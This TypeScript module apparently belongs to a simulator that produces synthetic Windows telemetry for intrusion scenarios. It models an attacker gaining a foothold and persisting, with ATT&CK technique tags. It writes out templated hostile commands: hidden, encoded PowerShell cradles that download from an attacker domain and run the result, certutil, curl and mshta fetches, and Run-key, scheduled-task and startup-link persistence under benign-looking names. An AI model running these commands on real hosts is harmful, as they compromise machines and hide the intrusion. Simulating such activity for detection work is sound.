import { second } from '../calendar.ts';
import type { Estate } from '../estate.ts';
import type { Site } from '../internet.ts';
import type { Person } from '../people.ts';
import type { Plot } from '../plot.ts';
import type { Random } from '../random.ts';
import type { Process, WindowsHost } from '../windows/host.ts';
import { type Image, image, unlistedImage } from '../windows/images.ts';
import { scriptBlock, taskCreated } from '../windows/security.ts';
import { createFile, loadImage, run, setValue, start, visit } from '../windows/sysmon.ts';
import { deliver } from './delivery.ts';

/** What an intruder holds on a workstation, and from where it is steered. */
export interface Foothold {
  readonly host: WindowsHost;
  readonly person: Person;
  readonly site: Site;
  implant: Process;
  readonly implantImage: Image;
  readonly folder: string;
}

const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const letters = 'abcdefghijklmnopqrstuvwxyz';

/** Delivery, a first command, a download and a program that calls home. */
export function gainFoothold(estate: Estate, plot: Plot, host: WindowsHost, person: Person): Foothold {
  const { sim, random } = plot;
  const site = estate.company.internet.newcomer(random);
  const opener = deliver(estate, plot, host, person);
  const name = `${random.pick(['update', 'sync', 'host', 'view', 'audio', 'print', 'clip', 'net'])}${random.pick(['svc', 'helper', 'mgr', 'agent', 'task'])}`;
  const folder = random.pick([
    `C:\\Users\\${person.login}\\AppData\\Local\\Temp`,
    `C:\\Users\\${person.login}\\AppData\\Roaming\\${name}`,
    'C:\\ProgramData',
    `C:\\Users\\Public\\Libraries`,
  ]);
  const asLibrary = random.chance(0.4);
  const path = `${folder}\\${name}.${asLibrary ? 'dll' : 'exe'}`;
  const url = `https://${site.domain}/${random.text(random.int(4, 9), letters)}${random.pick(['', '.txt', '.png', '/a'])}`;
  sim.pass(random.int(800, 4000));
  const downloader = fetch(plot, host, opener, url, path);
  visit(sim, host, downloader, site);
  createFile(sim, host, downloader, path);
  sim.pass(random.int(800, 5000));
  const implantImage = asLibrary
    ? image('rundll32')
    : unlistedImage(
        path,
        random.chance(0.3) ? { description: name, company: 'Freeware', version: '2.1.0' } : undefined,
        random.hex(8),
      );
  const implant = start(
    sim,
    host,
    downloader,
    implantImage,
    asLibrary
      ? `"C:\\Windows\\System32\\rundll32.exe" ${path},${random.pick(['Start', 'DllMain', 'Run', '#1'])}`
      : `"${path}"`,
  );
  if (asLibrary) {
    loadImage(sim, host, implant, path, {
      company: '-',
      signed: false,
      hashes: unlistedImage(path, undefined, random.hex(8)).hashes,
    });
    plot.chapter.tell('The download was a library run by rundll32.', 'T1218.011');
  }
  visit(sim, host, implant, site);
  plot.chapter.tell(`It fetched a program from ${site.domain} and ran it.`, 'T1105', 'T1071.001');
  return { host, person, site, implant, implantImage, folder };
}

type Fetching = (random: Random, url: string, path: string) => Fetched;

interface Fetched {
  readonly image: string;
  readonly line: string;
  readonly told: string;
  readonly techniques: readonly string[];
  /** The script, where PowerShell logs one. */
  readonly script?: string;
}

function script(random: Random, url: string, path: string): string {
  const client = random.pick([
    `(New-Object Net.WebClient).DownloadFile('${url}','${path}')`,
    `iwr -UseBasicParsing ${url} -OutFile ${path}`,
    `[IO.File]::WriteAllBytes('${path}',(New-Object Net.WebClient).DownloadData('${url}'))`,
  ]);
  return `${client};Start-Process '${path}'`;
}

const encodedFlags = ['-nop -w hidden -enc', '-NoP -NonI -W Hidden -Exec Bypass -Enc', '-w 1 -e', '-ep bypass -nop -e'];
const told = 'PowerShell downloaded the next stage.';

const fetchings: readonly (readonly [Fetching, number])[] = [
  [
    (random, url, path) => {
      const text = script(random, url, path);
      const line = `powershell.exe ${random.pick(encodedFlags)} ${encoded(text)}`;
      return { image: 'powershell', line, script: text, told, techniques: ['T1059.001', 'T1027'] };
    },
    5,
  ],
  [
    (random, url, path) => {
      const text = script(random, url, path);
      return {
        image: 'powershell',
        line: `powershell.exe -nop -w hidden -c "${text}"`,
        script: text,
        told,
        techniques: ['T1059.001'],
      };
    },
    2,
  ],
  [
    (_, url, path) => ({
      image: 'certutil',
      line: `certutil.exe -urlcache -split -f ${url} ${path}`,
      told: 'certutil downloaded the next stage.',
      techniques: ['T1105'],
    }),
    1,
  ],
  [
    (_, url, path) => ({
      image: 'curl',
      line: `curl.exe -s -L -o "${path}" ${url}`,
      told: 'curl downloaded the next stage.',
      techniques: ['T1105'],
    }),
    1.5,
  ],
  [
    (_, url) => ({
      image: 'mshta',
      line: `mshta.exe ${url}`,
      told: 'mshta fetched the next stage.',
      techniques: ['T1218.005'],
    }),
    1,
  ],
];

/** The command that downloads, through a shell or not. */
function fetch(plot: Plot, host: WindowsHost, opener: Process, url: string, path: string): Process {
  const { sim, random } = plot;
  const fetched = random.weighted(fetchings)(random, url, path);
  const shell = random.chance(0.6)
    ? run(sim, host, opener, image('cmd'), `"C:\\Windows\\System32\\cmd.exe" /c ${fetched.line}`, 90 * second)
    : opener;
  const process = run(sim, host, shell, image(fetched.image), fetched.line, 80 * second);
  if (fetched.script !== undefined) scriptBlock(sim, host, process.session, fetched.script);
  plot.chapter.tell(fetched.told, ...fetched.techniques);
  return process;
}

/** The implant survives a logoff: a run key, a task or a link in the start-up folder. */
export function persist(plot: Plot, foothold: Foothold): void {
  const { sim, random } = plot;
  const { host, person, implant } = foothold;
  const command = implant.commandLine.replaceAll('"', '');
  const name = random.pick([
    'OneDriveSync',
    'AudioHelper',
    'EdgeUpdateTask',
    'ClipService',
    'PrintHelper',
    'OfficeCache',
  ]);
  const way = random.pick(['run-key', 'task', 'startup'] as const);
  if (way === 'run-key') {
    const key = `HKU\\${person.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\${name}`;
    const setter = random.chance(0.5)
      ? run(
          sim,
          host,
          implant,
          image('reg'),
          `reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v ${name} /t REG_SZ /d "${command}" /f`,
          2 * second,
        )
      : implant;
    setValue(sim, host, setter, key, command);
    plot.chapter.tell('A run key keeps it alive.', 'T1547.001');
  } else if (way === 'task') {
    run(
      sim,
      host,
      implant,
      image('schtasks'),
      `schtasks /create /sc ${random.pick(['onlogon', 'minute /mo 30', 'hourly'])} /tn ${name} /tr "${command}" /f`,
      2 * second,
    );
    taskCreated(sim, host, implant.session, `\\${name}`, command, '', `${host.domain}\\${person.login}`);
    createFile(sim, host, host.service('schedule'), `C:\\Windows\\System32\\Tasks\\${name}`);
    plot.chapter.tell('A scheduled task keeps it alive.', 'T1053.005');
  } else {
    createFile(
      sim,
      host,
      implant,
      `C:\\Users\\${person.login}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\${name}.lnk`,
    );
    plot.chapter.tell('A link in the start-up folder keeps it alive.', 'T1547.001');
  }
}
